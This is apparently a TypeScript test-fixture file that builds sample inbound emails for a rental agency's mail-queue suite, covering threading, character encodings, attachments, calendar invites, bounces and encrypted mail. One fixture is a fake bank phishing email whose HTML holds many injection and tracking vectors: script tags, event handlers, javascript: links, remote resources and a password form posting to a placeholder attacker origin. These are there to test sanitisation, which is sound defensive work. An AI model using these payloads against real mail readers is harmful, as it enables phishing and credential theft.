/** Mail as it comes from outside, for the suite of the queue. */

const to = 'Rentals <rentals@harborrealty.example>'

interface Head {
  from: string
  subject: string
  id: string
  reply?: string
  type?: string
  encoding?: string
  more?: string[]
}

function mail(head: Head, body: string | Buffer): Buffer {
  const lines = [
    `From: ${head.from}`,
    `To: ${to}`,
    `Subject: ${head.subject}`,
    `Message-ID: <${head.id}>`,
    ...(head.reply ? [`In-Reply-To: <${head.reply}>`, `References: <${head.reply}>`] : []),
    `Date: ${new Date().toUTCString().replace('GMT', '+0000')}`,
    ...(head.more ?? []),
    'MIME-Version: 1.0',
    `Content-Type: ${head.type ?? 'text/plain; charset=utf-8'}`,
    `Content-Transfer-Encoding: ${head.encoding ?? '8bit'}`,
  ]
  return Buffer.concat([Buffer.from(`${lines.join('\r\n')}\r\n\r\n`), Buffer.from(body)])
}

const maria = 'Maria Lopez <maria@buyer.example>'

export const question = mail(
  { from: maria, subject: 'Is the flat on Elm Street free?', id: 'q1@buyer.example' },
  'Good morning,\r\n\r\nis it still free in May?\r\n\r\nMaria',
)

export const more = mail(
  {
    from: maria,
    subject: 'Re: Is the flat on Elm Street free?',
    id: 'q2@buyer.example',
    reply: 'q1@buyer.example',
  },
  [
    'One thing more: are cats allowed?',
    '',
    'On Monday Maria Lopez <maria@buyer.example> wrote:',
    '> Good morning,',
    '> is it still free in May?',
  ].join('\r\n'),
)

/** The same person with another address. */
export const fromWork = mail(
  { from: 'Maria at work <maria@office.example>', subject: 'From the office', id: 'w9@office.example' },
  'It is me again.',
)

/** Everything that HTML can do to whoever reads it; `evil` is the origin that hears of it. */
export const hostile = (evil: string) =>
  mail(
    {
      from: 'Bank <bank@phish.example>',
      subject: 'Your account is locked',
      id: 'h1@phish.example',
      type: 'text/html; charset=utf-8',
    },
    `<html><head><meta http-equiv="refresh" content="0;url=${evil}/refresh"><base href="${evil}/">
<link rel="stylesheet" href="${evil}/sheet.css"><style>@import url(${evil}/import.css); body { background: url(${evil}/back.png) }</style></head>
<body onload="top.hacked = 1" background="${evil}/body.png"><script>top.hacked = 1; fetch('${evil}/script')</script>
<p>Honest words</p><img src="x" onerror="top.hacked = 1"><img src="${evil}/pixel.png" alt="Remote picture">
<form action="${evil}/form"><input name="password"><button>Sign in again</button></form>
<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:red url(${evil}/cover.png)">Covered</div>
<a href="${evil}/link" target="_top">Read more</a> <a href="javascript:top.hacked=1">Run</a>
<svg onload="top.hacked = 1"><script>top.hacked = 1</script></svg><iframe src="${evil}/frame"></iframe>
<video src="${evil}/video" autoplay></video><object data="${evil}/object"></object></body></html>`,
  )

export const western = mail(
  {
    from: '=?windows-1252?Q?J=FCrgen_Gro=DF?= <juergen@mieter.example>',
    subject: '=?windows-1252?Q?R=FCckfrage_=96_250_=80?=',
    id: 'w1@mieter.example',
    type: 'text/plain; charset=windows-1252',
  },
  // „Schöne Grüße“ – für 250 €
  Buffer.from('\x84Sch\xf6ne Gr\xfc\xdfe\x93 \x96 f\xfcr 250 \x80', 'latin1'),
)

const base64 = (text: string) => Buffer.from(text).toString('base64')

export const arabic = mail(
  {
    from: `=?utf-8?B?${base64('ليلى حداد')}?= <layla@tenant.example>`,
    subject: `=?utf-8?B?${base64('هل الشقة متاحة؟')}?=`,
    id: 'a1@tenant.example',
    encoding: 'base64',
  },
  base64('مرحبا، هل الشقة ما زالت متاحة في مايو؟'),
)

/** Every byte there is, and one that base64 must pad. */
export const plan = Buffer.from([...Array(256).keys(), 7])

export const invites = mail(
  {
    from: 'Olga Ost <olga@agency.example>',
    subject: 'Viewing on Tuesday',
    id: 'i1@agency.example',
    type: 'multipart/alternative; boundary="part"',
  },
  [
    '--part',
    'Content-Type: text/plain; charset=utf-8',
    '',
    'Please come.',
    '--part',
    'Content-Type: text/calendar; charset=utf-8; method=REQUEST',
    '',
    'BEGIN:VCALENDAR',
    'VERSION:2.0',
    'PRODID:-//agency.example//EN',
    'METHOD:REQUEST',
    'BEGIN:VEVENT',
    'UID:i1@agency.example',
    'DTSTAMP:20261101T000000Z',
    'DTSTART:20261201T090000Z',
    'DTEND:20261201T100000Z',
    'SUMMARY:Viewing of Elm Street 4',
    'LOCATION:At the gate',
    'ORGANIZER;CN=Olga Ost:mailto:olga@agency.example',
    'END:VEVENT',
    'END:VCALENDAR',
    '--part--',
  ].join('\r\n'),
)

export const withFile = mail(
  {
    from: 'Architects <office@plans.example>',
    subject: 'The floor plan',
    id: 'f1@plans.example',
    type: 'multipart/mixed; boundary="part"',
  },
  [
    '--part',
    'Content-Type: text/plain; charset=utf-8',
    '',
    'Here it is.',
    '--part',
    'Content-Type: application/pdf',
    "Content-Disposition: attachment; filename*=UTF-8''Grundri%C3%9F.pdf",
    'Content-Transfer-Encoding: base64',
    '',
    ...(plan.toString('base64').match(/.{1,76}/g) ?? []),
    '--part--',
    '',
  ].join('\r\n'),
)

export const automatic = mail(
  {
    from: 'Maria Lopez <maria@buyer.example>',
    subject: 'Out of office',
    id: 'o1@buyer.example',
    more: ['Auto-Submitted: auto-replied'],
  },
  'I am back on Monday.',
)

/** RFC 3464: what was sent under this id did not reach the recipient, whose mailbox is full. */
export const bounceOf = (messageId: string, recipient: string) =>
  report('b2@mail.example', [
    `Final-Recipient: rfc822; ${recipient}`,
    'Action: failed',
    'Status: 5.2.2',
    'Diagnostic-Code: smtp; 552 5.2.2 Over quota',
    '--part',
    'Content-Type: text/rfc822-headers',
    '',
    `Message-ID: ${messageId}`,
  ])

const report = (id: string, about: string[]) =>
  mail(
    {
      from: 'Mail Delivery System <mailer-daemon@mail.example>',
      subject: 'Undelivered Mail Returned to Sender',
      id,
      type: 'multipart/report; report-type=delivery-status; boundary="part"',
      more: ['Auto-Submitted: auto-replied'],
    },
    [
      '--part',
      'Content-Type: text/plain; charset=utf-8',
      '',
      'There is no such person here.',
      '--part',
      'Content-Type: message/delivery-status',
      '',
      'Reporting-MTA: dns; mail.example',
      '',
      ...about,
      '--part--',
      '',
    ].join('\r\n'),
  )

export const bounce = report('b1@mail.example', [
  'Final-Recipient: rfc822; nobody@mail.example',
  'Action: failed',
  'Status: 5.1.1',
])

/** RFC 8551; only what is outside of it can be known. */
export const encrypted = mail(
  {
    from: 'Notary <notary@law.example>',
    subject: 'The contract',
    id: 'e1@law.example',
    type: 'application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"',
    encoding: 'base64',
  },
  plan.toString('base64'),
)
